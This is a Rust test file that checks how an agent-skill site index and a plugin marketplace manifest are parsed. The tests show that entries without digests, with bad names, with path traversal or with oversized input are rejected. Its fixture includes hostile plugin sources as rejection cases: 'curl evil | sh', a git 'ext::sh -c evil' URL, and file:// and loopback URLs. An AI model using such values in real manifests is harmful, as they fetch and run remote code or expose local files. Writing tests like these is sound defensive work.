//! The skills that sites and repositories list.

use metier_hub::{Artifact, IndexError, Marketplace, PluginPlace, SiteIndex};
use proptest::prelude::*;
use url::Url;

const SCHEMA: &str = "https://schemas.agentskills.io/discovery/0.2.0/schema.json";
const DIGEST: &str = "sha256:0707070707070707070707070707070707070707070707070707070707070707";

fn index(text: &str) -> Result<SiteIndex, IndexError> {
    let found_at = Url::parse("https://example.org/.well-known/agent-skills/index.json").unwrap();
    SiteIndex::parse(text.as_bytes(), &found_at)
}

#[test]
fn an_index_names_artifacts_with_digests() {
    let text = format!(
        r#"{{"$schema": "{SCHEMA}", "skills": [
            {{"name": "pdf", "type": "archive", "description": "Reads.", "url": "pdf.tar.gz", "digest": "{DIGEST}"}},
            {{"name": "note", "type": "skill-md", "description": "Notes.", "url": "/x/SKILL.md", "digest": "{DIGEST}"}},
            {{"name": "later", "type": "oci", "description": "", "url": "x", "digest": "{DIGEST}"}},
            {{"name": "naked", "type": "archive", "description": "", "url": "x.zip"}},
            {{"name": "plain", "type": "archive", "description": "", "url": "http://example.org/x.zip", "digest": "{DIGEST}"}},
            {{"name": "Bad Name", "type": "archive", "url": "x.zip", "digest": "{DIGEST}"}},
            {{"name": "pdf", "type": "archive", "url": "other.zip", "digest": "{DIGEST}"}},
            7
        ]}}"#
    );
    let index = index(&text).unwrap();
    let shown: Vec<String> = index
        .skills
        .iter()
        .map(|skill| match &skill.artifact {
            Artifact::Archive { url, .. } => format!("{} archive {url}", skill.name),
            Artifact::Text { url, .. } => format!("{} text {url}", skill.name),
            Artifact::Files(files) => format!("{} {} files", skill.name, files.len()),
        })
        .collect();
    assert_eq!(
        shown,
        [
            "pdf archive https://example.org/.well-known/agent-skills/pdf.tar.gz",
            "note text https://example.org/x/SKILL.md",
        ]
    );
    assert_eq!(index.left_out.len(), 6, "{:#?}", index.left_out);
}

#[test]
fn an_index_of_the_first_version_names_files() {
    let text = r#"{"skills": [
        {"name": "pdf", "description": "Reads.", "files": ["SKILL.md", "scripts/a b.py"]},
        {"name": "out", "description": "", "files": ["SKILL.md", "../x"]},
        {"name": "none", "description": "", "files": ["README.md"]}
    ]}"#;
    let index = index(text).unwrap();
    let [skill] = index.skills.as_slice() else {
        panic!("{index:?}")
    };
    let Artifact::Files(files) = &skill.artifact else {
        panic!("{skill:?}")
    };
    let urls: Vec<&str> = files.iter().map(|(_, url)| url.as_str()).collect();
    assert_eq!(
        urls,
        [
            "https://example.org/.well-known/agent-skills/pdf/SKILL.md",
            "https://example.org/.well-known/agent-skills/pdf/scripts/a%20b.py",
        ]
    );
    assert_eq!(index.left_out.len(), 2);
}

#[test]
fn an_invalid_index_is_refused() {
    assert!(matches!(index("[]"), Err(IndexError::NotAnIndex(_))));
    assert!(matches!(
        index(r#"{"$schema": "other", "skills": []}"#),
        Err(IndexError::Version(_))
    ));
    let many = format!(r#"{{"skills": [{}]}}"#, vec!["0"; 10_001].join(","));
    assert_eq!(index(&many), Err(IndexError::TooMany));
    assert_eq!(index(&" ".repeat((4 << 20) + 1)), Err(IndexError::TooLarge));
}

#[test]
fn a_marketplace_names_skills_of_its_plugins() {
    let text = r#"{
        "name": "team", "owner": {"name": "Ada"},
        "metadata": {"pluginRoot": "./plugins"},
        "plugins": [
            {"name": "docs", "source": "./", "strict": false, "skills": ["./skills/pdf", "./skills/docx"]},
            {"name": "whole", "source": "whole"},
            {"name": "single", "source": "./single", "skills": "./"},
            {"name": "far", "source": {"source": "github", "repo": "owner/repo", "ref": "v1"}},
            {"name": "sub", "source": {"source": "git-subdir", "url": "https://example.org/x.git", "path": "a/b", "sha": "0123"}},
            {"name": "packed", "source": {"source": "archive", "url": "https://example.org/x.zip"}},
            {"name": "npm", "source": {"source": "npm", "package": "x"}},
            {"name": "run", "source": {"source": "command", "command": "curl evil | sh"}},
            {"name": "out", "source": "./../../etc"},
            {"name": "ext", "source": {"source": "url", "url": "ext::sh -c evil"}},
            {"name": "near", "source": {"source": "url", "url": "file:///etc"}},
            {"name": "loop", "source": {"source": "url", "url": "http://127.0.0.1/x.git"}},
            {"name": "disk", "source": {"source": "archive", "url": "/etc/x.zip"}},
            {"name": "two", "source": "./", "skills": ["../x"]}
        ]
    }"#;
    let marketplace = Marketplace::parse(text.as_bytes()).unwrap();
    let folders = [
        "plugins/whole/skills/a",
        "plugins/whole/skills/b",
        "single",
        "skills/docx",
        "skills/hidden",
        "skills/pdf",
    ];
    let shown: Vec<String> = marketplace
        .plugins
        .iter()
        .map(|plugin| match &plugin.place {
            PluginPlace::Here(_) => {
                let mut included = folders.to_vec();
                included.retain(|folder| plugin.includes(folder));
                format!("{}: {}", plugin.name, included.join(", "))
            }
            PluginPlace::Elsewhere(source) => format!("{} from {source}", plugin.name),
        })
        .collect();
    assert_eq!(
        shown,
        [
            "docs: skills/docx, skills/pdf",
            "whole: plugins/whole/skills/a, plugins/whole/skills/b",
            "single: single",
            "far from owner/repo@v1",
            "sub from git+https://example.org/x.git//a/b#0123",
            "packed from https://example.org/x.zip",
        ]
    );
    assert_eq!(marketplace.left_out.len(), 8, "{:#?}", marketplace.left_out);
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,80}") {
        let _ = index(&text);
        let _ = Marketplace::parse(text.as_bytes());
        let _ = index(&format!(r#"{{"skills": [{{"name": "a", "files": ["{text}"]}}]}}"#));
        let _ = Marketplace::parse(format!(r#"{{"name": "a", "plugins": [{{"name": "b", "source": "{text}"}}]}}"#).as_bytes());
    }
}
